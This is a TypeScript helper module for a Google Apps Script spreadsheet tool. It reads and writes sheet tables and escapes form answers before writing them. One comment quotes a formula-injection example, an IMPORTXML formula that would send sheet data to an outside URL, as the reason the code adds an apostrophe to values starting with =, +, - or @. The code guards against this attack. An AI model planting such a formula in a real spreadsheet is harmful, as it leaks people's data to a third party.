/// <reference types="google-apps-script" />
/**
 * Thin helpers over the Apps Script services. Every sheet operation here follows one rule:
 * read a sheet once (`getDataRange().getValues()`), work in memory, write once.
 */

import { normalizeHeader } from '@bangkom/core';
import { explain } from './errors.js';

export type Spreadsheet = GoogleAppsScript.Spreadsheet.Spreadsheet;
export type Sheet = GoogleAppsScript.Spreadsheet.Sheet;
export type Range = GoogleAppsScript.Spreadsheet.Range;
export type Value = unknown;
export type Row = Value[];

export function spreadsheet(): Spreadsheet {
  return SpreadsheetApp.getActiveSpreadsheet();
}

/** Sheet by name, ignoring case and surrounding spaces, from one `getSheets()` call. */
export function sheetsByName(ss: Spreadsheet): Map<string, Sheet> {
  const map = new Map<string, Sheet>();
  for (const sheet of ss.getSheets()) map.set(normalizeHeader(sheet.getName()), sheet);
  return map;
}

export function findSheet(ss: Spreadsheet, name: string): Sheet | null {
  return sheetsByName(ss).get(normalizeHeader(name)) ?? null;
}

export function getOrCreateSheet(ss: Spreadsheet, name: string): Sheet {
  return findSheet(ss, name) ?? ss.insertSheet(name);
}

export interface Table {
  range: Range;
  /** header row as written (trimmed strings) */
  header: string[];
  /** data rows, header excluded; row i sits on sheet row i + 2 */
  rows: Row[];
}

/** One read of a whole sheet. An empty sheet gives no header and no rows. */
export function readTable(sheet: Sheet): Table {
  const range = sheet.getDataRange();
  const values = range.getValues() as Row[];
  const first = values[0] ?? [];
  const header = first.map((h) => String(h ?? '').trim());
  const blank = header.every((h) => h === '');
  return { range, header: blank ? [] : header, rows: blank ? [] : values.slice(1) };
}

/** Column index of a header (case-insensitive), or -1. */
export function columnOf(header: readonly string[], ...names: string[]): number {
  const wanted = names.map(normalizeHeader);
  return header.findIndex((h) => wanted.includes(normalizeHeader(h)));
}

/**
 * Grows the sheet so rows 1..rows and columns 1..cols exist: `getRange` past the sheet's
 * size throws in Apps Script ("The coordinates of the range are outside the dimensions").
 */
export function ensureSize(sheet: Sheet, rows: number, cols: number): void {
  const maxRows = sheet.getMaxRows();
  if (rows > maxRows) sheet.insertRowsAfter(maxRows, rows - maxRows);
  const maxCols = sheet.getMaxColumns();
  if (cols > maxCols) sheet.insertColumnsAfter(maxCols, cols - maxCols);
}

/** A valid Date, also one made in another realm (Object.prototype.toString, not instanceof). */
export function isDate(v: unknown): v is Date {
  return Object.prototype.toString.call(v) === '[object Date]' && !Number.isNaN((v as Date).getTime());
}

const FORMULA_START = /^\s*[=+\-@]/;
/** numbers, percentages, times and numeric dates: `199001152015032001`, `50%`, `1/2`, `2026-04-01`, `10:30` */
const NUMERIC_LIKE = /^[\s\d.,:/+\-eE%]+$/;
const BOOLEAN_LIKE = /^\s*(true|false)\s*$/i;
/** `1 Jan 2026`, `1-Januari-26`, `Januari 1, 2026`; amounts such as `Rp 1.000` or `$5` */
const DATE_WITH_MONTH =
  /^\s*(\d{1,2}[\s\-/.]+[A-Za-z]{3,}\.?([\s\-/.,]+\d{2,4})?|[A-Za-z]{3,}\.?\s+\d{1,2},?(\s+\d{2,4})?)\s*$/;
const AMOUNT = /^\s*(rp\.?|\$|€|£)\s*[\d.,]+\s*$/i;

/**
 * Text that Sheets would parse on `setValues` is written with a leading apostrophe, which
 * keeps it text (the apostrophe is not part of the stored value):
 * - numbers, percentages, TRUE/FALSE, dates and amounts: an 18-digit NIP would become
 *   1.99e17 and lose digits, an answer `50%` would become 0.5, `1/2` a date, `TRUE` a boolean;
 * - formulas: an answer such as `=IMPORTXML("https://…?"&A1,"//x")` would become a live
 *   formula (it could send the sheet's data elsewhere). Anything starting with `=`, `+`, `-`
 *   or `@`, after leading spaces, is treated so, as spreadsheet-injection guidance advises.
 * Every string that comes from a form answer, the server or an error message goes through
 * this before a setValues/setValue.
 */
export function keepText<T>(value: T): T | string {
  if (typeof value !== 'string' || value === '' || value.startsWith("'")) return value;
  if (FORMULA_START.test(value)) return `'${value}`;
  if (NUMERIC_LIKE.test(value) && /\d/.test(value)) return `'${value}`;
  if (BOOLEAN_LIKE.test(value) || AMOUNT.test(value)) return `'${value}`;
  return DATE_WITH_MONTH.test(value) && /\d/.test(value) ? `'${value}` : value;
}

/**
 * Rewrites a table sheet with exactly these rows in one write, clearing rows that are no
 * longer there. Width and height are the larger of the old and new sizes so stale cells go.
 */
export function writeTable(
  sheet: Sheet,
  header: readonly string[],
  rows: readonly Row[],
  oldHeight = 0,
): void {
  const width = header.length;
  const height = Math.max(rows.length + 1, oldHeight);
  const out: Row[] = [header.slice()];
  for (const r of rows) out.push(Array.from({ length: width }, (_, i) => keepText(r[i] ?? '')));
  while (out.length < height) out.push(Array.from({ length: width }, () => ''));
  ensureSize(sheet, height, width);
  sheet.getRange(1, 1, height, width).setValues(out);
}

export function toast(message: string, seconds = 5): void {
  spreadsheet().toast(message, 'Bangkom', seconds);
}

/**
 * A menu item's function that never ends in Google's raw error box ("Exception: …"): any
 * error becomes an Indonesian alert saying what stopped (errors.ts), the original going to
 * the execution log.
 */
export function menuAction<A extends unknown[], R>(
  title: string,
  fn: (...args: A) => R,
): (...args: A) => R | undefined {
  return (...args: A) => {
    try {
      return fn(...args);
    } catch (err) {
      tell(
        `${title} tidak selesai: ${explain(err)}.\n\nYang sudah tersimpan tetap ada; jalankan lagi setelah penyebabnya diatasi.`,
      );
      return undefined;
    }
  };
}

/** Shows a message to the person who clicked a menu item; silent when run from a trigger. */
export function tell(message: string): void {
  try {
    SpreadsheetApp.getUi().alert(message);
  } catch (_noUi) {
    console.log(message);
  }
}

/** A deterministic hex id from parts (response ids that survive re-runs). */
export function digest(...parts: readonly string[]): string {
  const bytes = Utilities.computeDigest(
    Utilities.DigestAlgorithm.SHA_256,
    parts.join('\u241f'),
    Utilities.Charset.UTF_8,
  );
  return bytes
    .slice(0, 12)
    .map((b) => ((b + 256) % 256).toString(16).padStart(2, '0'))
    .join('');
}
